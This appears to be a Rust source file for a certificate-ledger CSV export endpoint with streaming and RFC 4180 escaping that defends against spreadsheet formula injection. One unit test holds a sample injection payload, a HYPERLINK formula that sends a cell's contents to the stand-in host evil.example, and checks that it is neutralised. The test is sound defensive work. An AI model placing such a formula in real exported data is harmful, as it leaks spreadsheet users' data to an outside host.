//! `GET /v1/certificates/export.csv`: the ledger as RFC 4180 CSV, streamed, with the same
//! filters as the list; also the rows of `factory-ca ledger export`.

use axum::body::{Body, Bytes};
use axum::extract::State;
use axum::http::{HeaderValue, header};
use axum::response::{IntoResponse, Response};

use super::{ListParams, TAG, certificate_filter};
use crate::app::AppState;
use crate::http::error::ApiError;
use crate::http::error_code::ErrorCode;
use crate::http::extract::{ApiQuery, ViewerCaller};
use crate::http::route;
use crate::store::aws::CertificateAwsTarget;
use crate::store::{CertificateRecord, TextValue, Timestamp};

/// The columns of `GET /v1/certificates/export.csv`, in order: a stable interface (documented
/// in docs/operations.md); add columns at the end, never rename or reorder.
pub const CSV_COLUMNS: [&str; 24] = [
    "serial",
    "thing_name",
    "country",
    "subject",
    "key_algorithm",
    "spki_sha256",
    "aws_certificate_id",
    "issuing_ca",
    "not_before",
    "not_after",
    "issued_at",
    "station",
    "request_id",
    "status",
    "revoked_at",
    "revocation_reason",
    "aws_status",
    "aws_first_seen_at",
    "aws_revocation_pending",
    "channel",
    "superseded_at",
    "superseded_by",
    "aws_status_by_target",
    "aws_revocation_pending_targets",
];
/// Rows read from the store per chunk of the CSV stream: memory stays constant.
const EXPORT_CHUNK: u32 = 1000;

/// `GET /v1/certificates/export.csv`: the ledger rows the list endpoint would return (same
/// filters, `q`, `sort`, `cursor`; `limit` caps the rows and defaults to all), as RFC 4180 CSV
/// streamed in chunks: one header row, CRLF line ends, fields quoted when they hold a comma,
/// quote, CR or LF. If the store fails mid-stream the response is cut off (no final chunk), so
/// a client never mistakes a partial export for a complete one.
#[route(
    get,
    path = "/v1/certificates/export.csv",
    params(ListParams),
    responses((status = 200,
        description = "RFC 4180 CSV with one header row (the columns of `CSV_COLUMNS`, in \
            docs/operations.md), streamed",
        body = String, content_type = "text/csv"))
)]
pub async fn export_certificates_csv(
    State(state): State<AppState>,
    _viewer: ViewerCaller,
    ApiQuery(mut params): ApiQuery<ListParams>,
) -> Result<Response, ApiError> {
    let mut remaining = params.limit.take().map(u64::from).unwrap_or(u64::MAX);
    if remaining == 0 {
        return Err(ApiError::new(
            ErrorCode::InvalidQuery,
            "limit must be at least 1 (omit it to export every matching row)",
        ));
    }
    let bom = params.bom.take().unwrap_or(false);
    let mut filter = certificate_filter(params, &state)?;
    // The first chunk is read before answering, so that a store outage is a 503, not a
    // truncated 200.
    let first = state
        .reads
        .list_certificates(&filter, EXPORT_CHUNK.min(remaining as u32))
        .await?;
    let store = state.reads.clone();
    // Excel opens a CSV without a byte order mark in the system's code page.
    let mut header = if bom {
        "\u{feff}".to_owned()
    } else {
        String::new()
    };
    header.push_str(&CSV_COLUMNS.join(","));
    header.push_str("\r\n");
    let head = futures_util::stream::once(async move { Ok(Bytes::from(header)) });
    let rows = futures_util::stream::try_unfold(Some(first), move |page| {
        let store = store.clone();
        let next = page.map(|rows| {
            remaining -= rows.len() as u64;
            let more = rows.len() as u32 == EXPORT_CHUNK && remaining > 0;
            if let Some(last) = rows.last() {
                filter.before = Some((last.issued_at, last.serial.clone()));
            }
            (rows, more.then(|| (filter.clone(), remaining)))
        });
        async move {
            let Some((rows, more)) = next else {
                return Ok::<_, crate::store::StoreError>(None);
            };
            let targets = store.certificate_aws_targets(&rows).await?;
            let mut chunk = String::with_capacity(rows.len() * 400);
            for row in rows {
                let t = targets
                    .get(&row.serial)
                    .map(Vec::as_slice)
                    .unwrap_or_default();
                csv_row(&mut chunk, &row, t);
            }
            let following = match more {
                Some((filter, remaining)) => Some(
                    store
                        .list_certificates(&filter, EXPORT_CHUNK.min(remaining as u32))
                        .await?,
                ),
                None => None,
            };
            Ok(Some((Bytes::from(chunk), following)))
        }
    });
    let body = Body::from_stream(futures_util::StreamExt::chain(
        head,
        futures_util::TryStreamExt::map_err(rows, |e| {
            tracing::warn!(error = %e, "CSV export cut off: the store failed mid-stream");
            std::io::Error::other("store unavailable")
        }),
    ));
    Ok((
        [
            (
                header::CONTENT_TYPE,
                HeaderValue::from_static("text/csv; charset=utf-8; header=present"),
            ),
            (
                header::CONTENT_DISPOSITION,
                HeaderValue::from_static("attachment; filename=\"certificates.csv\""),
            ),
            (header::CACHE_CONTROL, HeaderValue::from_static("no-store")),
        ],
        body,
    )
        .into_response())
}

/// Appends one CSV line (RFC 4180) for a ledger row and its entries per AWS target.
/// `aws_status_by_target` is `target=STATUS` per target, `;`-separated, `never_seen` for a
/// target that has not seen it; `aws_revocation_pending_targets` the `;`-separated targets
/// still to be told of the revocation.
pub fn csv_row(out: &mut String, r: &CertificateRecord, targets: &[CertificateAwsTarget]) {
    let time = Timestamp::rfc3339;
    let by_target = targets
        .iter()
        .map(|t| {
            format!(
                "{}={}",
                t.target,
                t.aws_status.map_or("never_seen", |status| status.as_aws())
            )
        })
        .collect::<Vec<_>>()
        .join(";");
    let pending_targets = targets
        .iter()
        .filter(|t| t.revocation_pending)
        .map(|t| t.target.as_str())
        .collect::<Vec<_>>()
        .join(";");
    let fields: [std::borrow::Cow<'_, str>; CSV_COLUMNS.len()] = [
        r.serial.as_str().into(),
        r.thing_name.as_str().into(),
        r.country.as_deref().unwrap_or_default().into(),
        r.subject.as_str().into(),
        r.key_algorithm.name().into(),
        r.spki_sha256.as_str().into(),
        r.aws_certificate_id.as_str().into(),
        r.ca_id.as_str().into(),
        time(r.not_before).into(),
        time(r.not_after).into(),
        time(r.issued_at).into(),
        r.station.as_str().into(),
        r.request_id.as_deref().unwrap_or_default().into(),
        r.status.name().into(),
        r.revoked_at.map(time).unwrap_or_default().into(),
        r.revocation_reason
            .map_or("", |reason| reason.name())
            .into(),
        r.aws_status.map_or("", |status| status.as_aws()).into(),
        r.aws_first_seen_at.map(time).unwrap_or_default().into(),
        if r.aws_revocation_pending {
            "true"
        } else {
            "false"
        }
        .into(),
        r.channel.name().into(),
        r.superseded_at.map(time).unwrap_or_default().into(),
        r.superseded_by.as_deref().unwrap_or_default().into(),
        by_target.into(),
        pending_targets.into(),
    ];
    for (i, field) in fields.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        csv_field(out, field);
    }
    out.push_str("\r\n");
}

/// One RFC 4180 field. A field a spreadsheet would read as a formula (OWASP's CSV injection
/// rule: it starts with `=`, `+`, `-`, `@`, a tab or a carriage return) gets a leading `'` and
/// quotes, so Excel, LibreOffice and Google Sheets show it as text instead of evaluating it. Thing
/// names may start with `-`; stored request ids predate the safe request id alphabet.
fn csv_field(out: &mut String, field: &str) {
    if field.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        out.push_str("\"'");
        out.push_str(&field.replace('"', "\"\""));
        out.push('"');
    } else if field.contains([',', '"', '\r', '\n']) {
        out.push('"');
        out.push_str(&field.replace('"', "\"\""));
        out.push('"');
    } else {
        out.push_str(field);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_fields_are_quoted_only_when_needed() {
        let mut out = String::new();
        for field in ["plain", "a,b", "say \"hi\"", "two\r\nlines", ""] {
            csv_field(&mut out, field);
            out.push('|');
        }
        assert_eq!(out, "plain|\"a,b\"|\"say \"\"hi\"\"\"|\"two\r\nlines\"||");
    }

    #[test]
    fn csv_fields_a_spreadsheet_would_evaluate_are_neutralised() {
        let mut out = String::new();
        for field in [
            "=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"Open\")",
            "+1",
            "-thing",
            "@SUM(A1)",
            "\tx",
            "\rx",
            "a=b",
        ] {
            csv_field(&mut out, field);
            out.push('|');
        }
        assert_eq!(
            out,
            "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&B2,\"\"Open\"\")\"|\"'+1\"|\
             \"'-thing\"|\"'@SUM(A1)\"|\"'\tx\"|\"'\rx\"|a=b|"
        );
    }
}
